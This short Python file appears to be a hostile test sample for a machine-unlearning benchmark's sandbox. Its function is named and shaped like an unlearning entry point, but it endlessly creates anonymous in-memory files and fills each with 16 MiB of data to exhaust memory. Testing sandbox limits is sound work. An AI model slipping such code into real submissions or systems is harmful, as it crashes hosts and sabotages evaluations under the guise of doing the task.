"""Writes without end into files that exist in memory only and have no name; ended for its use of memory."""

import os


def unlearning(net, retain, forget, val):
    kept = []
    while True:
        kept.append(os.memfd_create("unlearn-hostile"))
        os.write(kept[-1], b"x" * (16 << 20))
